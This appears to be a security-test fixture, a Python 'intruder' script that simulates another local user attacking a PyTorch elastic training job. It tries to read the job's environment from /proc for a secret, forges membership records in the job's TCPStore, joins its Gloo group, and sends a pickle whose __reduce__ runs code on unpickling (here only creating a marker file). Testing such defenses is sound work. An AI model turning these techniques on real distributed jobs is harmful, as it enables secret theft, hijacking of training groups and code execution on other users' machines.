"""Another user's process attacking an elastic job through its store (tests/test_security.py).

    python intruder.py MARKER < "PORT JOB_PID"

Once it has started, it reads the job's port and pid from its input. It tries to read the
job's environment (where the job's secret is), connects to the job's store on 127.0.0.1:PORT,
lists its keys to find the membership records, forges generation 1 with itself as a member (and
the flag that asks the members to regroup there), under the job's prefix and without it, then
tries to join that generation's Gloo group and send a pickle whose unpickling would create
MARKER. It prints what it did, one line per action.
"""

from __future__ import annotations

import json
import os
import sys
import time
from datetime import timedelta

import torch.distributed as dist


class Payload:
    """Unpickling this creates the marker file: code run in whoever unpickles it."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def main() -> None:
    marker = sys.argv[1]
    print(f"uid {os.getuid()}", flush=True)
    port_text, pid = sys.stdin.readline().split()
    port = int(port_text)
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            print(f"read the job's environment: {b'TOWERS_SECRET' in f.read()}", flush=True)
    except OSError as exc:
        print(f"cannot read the job's environment: {exc.strerror}", flush=True)
    store = dist.TCPStore("127.0.0.1", port, None, False, timedelta(seconds=5))
    deadline = time.monotonic() + 20
    members = []
    while not members:
        members = [k for k in store.list_keys() if k.endswith("g0/members")]
        if time.monotonic() > deadline:
            print("no membership records found", flush=True)
            return
        time.sleep(0.05)
    prefix = members[0][: -len("g0/members")]
    current = store.get(members[0]).decode()
    ids = json.loads(current if current.startswith("[") else current.split(" ", 1)[1])
    me = max(ids) + 1
    forged = json.dumps([*ids, me])
    for p, value in ((prefix, "0" * 64 + " " + forged), ("", forged)):
        store.set(f"{p}g1/members", value)
        store.set(f"{p}g0/regroup", "0" * 64 + " 1" if p else "1")
        store.add(f"{p}g1/here", 1)
    print(f"forged generation 1 as {[*ids, me]} under prefix {prefix!r}", flush=True)
    try:
        dist.init_process_group(
            "gloo",
            store=dist.PrefixStore(f"{prefix}g1/pg", store),
            rank=len(ids),
            world_size=len(ids) + 1,
            timeout=timedelta(seconds=6),
        )
    except Exception as exc:
        print(f"could not join: {str(exc).splitlines()[0][:200]}", flush=True)
        return
    print("joined the group", flush=True)
    try:
        dist.all_gather_object([None] * (len(ids) + 1), Payload(marker))
        print("sent the pickle", flush=True)
    except Exception as exc:
        print(f"sending failed: {str(exc).splitlines()[0][:200]}", flush=True)


if __name__ == "__main__":
    main()
